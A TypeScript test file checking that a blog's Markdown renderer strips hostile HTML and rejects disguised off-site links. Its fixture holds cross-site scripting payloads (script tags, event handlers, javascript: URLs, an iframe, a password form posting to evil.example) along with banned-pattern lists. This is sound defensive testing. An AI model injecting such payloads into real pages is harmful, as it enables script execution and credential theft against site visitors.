import { FIXTURE_PUBLIC_DIR, shippedContent } from "../../test/support/blog";
import request from "supertest";
import { describe, expect, it } from "vitest";
import { createTestApp } from "../../test/support/test-app";
import { createBlog } from "../blog/blog";
import { renderMarkdown } from "./markdown";
import type { BlogPost } from "../blog/post";

const HOSTILE = `
Before <script>alert("script")</script> after.

<img src="/images/blog/fixture-hero.svg" alt="ok" onerror="alert('onerror')">

[a javascript link](javascript:alert('link')) and <a href="javascript:alert('raw')" onclick="alert('click')">raw link</a>

<iframe src="https://evil.example/frame"></iframe>

<div style="position:fixed" onmouseover="alert('hover')"><svg><script>alert('svg')</script></svg>kept text</div>

<form action="https://evil.example/"><input name="password"></form>
`;

describe("the Markdown pipeline", () => {
  it("stops at a link that looks like a path but opens another site, naming it", () => {
    for (const href of ["/\\evil.example/path", "/\t/evil.example/path", "\\\\evil.example/path"]) {
      expect(() => renderMarkdown(`Read <a href="${href}">this</a>.`, FIXTURE_PUBLIC_DIR), JSON.stringify(href)).toThrow(/is not a path on this site/);
    }
    // Markdown's own link syntax percent-encodes the backslash: a path here, which no browser reads as a slash.
    const { html } = renderMarkdown("[this](/\\evil.example/path) and [that](/blog)", FIXTURE_PUBLIC_DIR);
    expect(html).toContain('href="/%5Cevil.example/path"');
    expect(html).toContain('href="/blog"');
  });

  it("keeps no script, event handler, javascript: URL, iframe, form or inline style from raw HTML", () => {
    const html = renderMarkdown(HOSTILE, FIXTURE_PUBLIC_DIR).html;
    for (const banned of [/<script/i, /onerror/i, /onclick/i, /onmouseover/i, /javascript:/i, /<iframe/i, /<form/i, /name="password"/, /style=/i, /alert\(/]) {
      expect(html).not.toMatch(banned);
    }
    // GitHub's allow-list keeps <input> only as a task list's disabled checkbox.
    for (const input of html.match(/<input[^>]*>/g) ?? []) expect(input).toMatch(/^<input (?=.*disabled)(?=.*type="checkbox")/);
    expect(html).toContain("Before");
    expect(html).toContain("kept text");
    expect(html).toContain(">raw link</a>");
  });

  it("gives headings ids, external links rel=noopener noreferrer, and images their width and height", () => {
    const html = renderMarkdown(
      "## Costs and fees\n\nSee [the Act](https://www.legislation.qld.gov.au/) and [our terms](/terms-of-service).\n\n![Circles](/images/blog/fixture-hero.svg)\n",
      FIXTURE_PUBLIC_DIR,
    ).html;
    expect(html).toContain('<h2 id="costs-and-fees">Costs and fees</h2>');
    expect(html).toContain('<a href="https://www.legislation.qld.gov.au/" rel="noopener noreferrer">the Act</a>');
    expect(html).toContain('<a href="/terms-of-service">our terms</a>');
    expect(html).toMatch(
      /<img src="\/images\/blog\/fixture-hero.svg" alt="Circles" width="1200" height="600" loading="lazy" decoding="async">/,
    );
  });

  it("understands GitHub-flavoured Markdown (tables, strikethrough)", () => {
    const html = renderMarkdown("| Model | Cost |\n| --- | --- |\n| In-house | Fixed |\n\n~~gone~~\n", FIXTURE_PUBLIC_DIR).html;
    expect(html).toContain("<table>");
    expect(html).toContain("<del>gone</del>");
  });

  it("lets none of it reach the post's page", async () => {
    const post: BlogPost = {
      slug: "hostile",
      title: "A hostile post",
      excerpt: "Tries everything.",
      author: "Mallory",
      date: "2026-01-01",
      readMinutes: 1,
      image: { src: "/images/blog/fixture-hero.svg", alt: "Circles", width: 1200, height: 600 },
      tags: ["tests"],
      draft: false,
      html: renderMarkdown(HOSTILE, FIXTURE_PUBLIC_DIR).html,
    };
    const { app } = createTestApp({ content: shippedContent(createBlog([post])) });
    for (const path of ["/blog/hostile", "/fragments/blog-post.json?path=/blog/hostile", "/blog/rss.xml", "/blog/atom.xml", "/blog/feed.json"]) {
      const text = (await request(app).get(path).expect(200)).text;
      expect(text, path).toContain("kept text");
      for (const banned of [/onerror/i, /onclick/i, /javascript:/i, /<iframe/i, /alert\(/]) expect(text, path).not.toMatch(banned);
    }
  });
});
